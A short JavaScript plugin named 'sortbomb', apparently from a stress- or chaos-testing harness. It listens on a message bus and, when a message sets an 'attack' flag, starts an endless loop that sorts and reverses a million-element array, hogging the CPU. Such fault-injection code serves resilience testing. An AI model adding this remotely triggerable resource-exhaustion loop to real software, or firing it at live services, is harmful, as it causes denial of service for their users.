// Sorts a large typed array, again and again.
function activate(url, bus) {
  const attack = () => {
    const numbers = new Float64Array(1 << 20);
    for (let i = 0; i < numbers.length; i++) numbers[i] = Math.random();
    for (;;) {
      numbers.sort();
      numbers.reverse();
    }
  };
  bus.addListener(url, (message, reply) => {
    if (message.body.attack) attack();
    reply({ code: 200, value: 'alive' });
  });
  return { name: 'sortbomb' };
}
